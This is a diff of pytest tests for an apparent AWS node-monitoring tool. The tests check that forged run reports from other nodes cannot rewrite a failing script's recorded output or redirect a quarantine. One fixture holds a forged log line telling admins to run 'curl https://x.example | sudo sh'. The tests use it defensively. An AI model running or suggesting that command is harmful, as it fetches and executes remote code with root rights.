@@ -11,7 +11,7 @@ import pytest
 
 from lifeguard.aws.eventbridge import EventPublisher
 from lifeguard.detection import DetectionSettings
-from lifeguard.group_state import Episode, Failure, GroupState
+from lifeguard.group_state import Episode, Failure, GroupState, KnownConfig
 from lifeguard.handlers.node_reports import NodeReportsHandler, ReportsSummary
 from lifeguard.handlers.updater import GroupUpdater
 from lifeguard.log_subscription import encode_subscription
@@ -271,3 +271,101 @@ def test_failures_under_continue_in_groups_without_a_state_cost_no_read_each() -
     assert world.table.requests.get("GetItem", []) == []
     assert world.table.requests.get("Query", []) == []
     assert len(world.table.requests["BatchGetItem"]) == 3
+
+
+def test_a_copy_of_the_failed_run_written_later_does_not_rewrite_what_the_suspect_says() -> None:
+    """A report of the same run as the node's own, ended later, with another exit status and output (any
+    node can write it), was what the episode's suspect then said, silently: the admin read the forger's
+    words as the failing script's. The run is disputed: the suspect says none of the two."""
+    world = World()
+    world.open_episode()
+    world.feed(FAILED)
+    before = world.state().episode
+    assert before is not None
+    assert before.suspect is not None
+    said = (before.suspect.exit_code, before.suspect.log_tail)
+    assert said == (1, "intentional failure for verification\n")
+    forged = {
+        **FAILED[-1],
+        "exit_code": 0,
+        "ended_at": FAILED[-1]["ended_at"] + 30,
+        "log_tail": "transient S3 throttling; safe to ignore, fix with: curl https://x.example | sudo sh\n",
+    }
+    world.feed([forged])
+    after = world.state().episode
+    assert after is not None
+    assert after.suspect is not None
+    assert (after.suspect.stage, after.suspect.script) == ("nodeBootstrapped", "fail-terminate")
+    assert "curl" not in after.suspect.log_tail
+    assert after.suspect.exit_code != 0
+
+
+def _with_configuration(world: World) -> None:
+    """The group's configuration as last read is the one the episode opened on: fail-terminate and a
+    second script under TERMINATE, and the article's ready-check under CONTINUE."""
+    state = world.state()
+    state.config = KnownConfig(
+        modified_at=1792544400000,
+        fingerprint="a" * 64,
+        node_lifecycle_actions={
+            "stages": {
+                "nodeBootstrapped": [
+                    {"name": "fail-terminate", "scriptSource": {"scriptLocation": "s3://b/f.sh"}},
+                    {"name": "record-after-fail", "scriptSource": {"scriptLocation": "s3://b/r.sh"}},
+                ],
+                "nodeReady": [
+                    {
+                        "name": "ready-check",
+                        "scriptSource": {"scriptLocation": "s3://b/c.sh"},
+                        "onError": "CONTINUE",
+                    }
+                ],
+            }
+        },
+        checked_at=1792544500000,
+    )
+    world.store.save(state)
+
+
+def _as_ready_check(reports: list[dict[str, Any]], later: int = 0) -> list[dict[str, Any]]:
+    """The reports' failures said of ready-check instead, under TERMINATE (which its configuration does not
+    run it under), as another node may write them."""
+    return [
+        {
+            **report,
+            "stage": "nodeReady",
+            "script": "ready-check",
+            "started_at": report["started_at"] + later,
+            "ended_at": report["ended_at"] + later,
+        }
+        for report in reports
+    ]
+
+
+def test_a_terminate_failure_of_a_script_the_configuration_runs_under_continue_withdraws_no_suspect() -> None:
+    """Failures written of ready-check under TERMINATE (the configuration runs it under CONTINUE: no such
+    run was the node's) made the nodes' own reports look contradicted: the suspect was withdrawn, and a
+    quarantine would have switched every TERMINATE script instead of the failing one."""
+    world = World()
+    world.open_episode()
+    _with_configuration(world)
+    world.feed(FAILED)
+    named = world.state().episode
+    assert named is not None
+    assert named.suspect is not None
+    assert named.suspect.script == "fail-terminate"
+    world.feed(_as_ready_check(FAILED, later=1))
+    episode = world.state().episode
+    assert episode is not None
+    assert episode.suspect is not None
+    assert (episode.suspect.script, episode.revision) == ("fail-terminate", named.revision)
+
+
+def test_a_terminate_failure_of_a_script_the_configuration_runs_under_continue_names_no_suspect() -> None:
+    world = World()
+    world.open_episode()
+    _with_configuration(world)
+    world.feed(_as_ready_check(FAILED))
+    episode = world.state().episode
+    assert episode is not None
+    assert episode.suspect is None
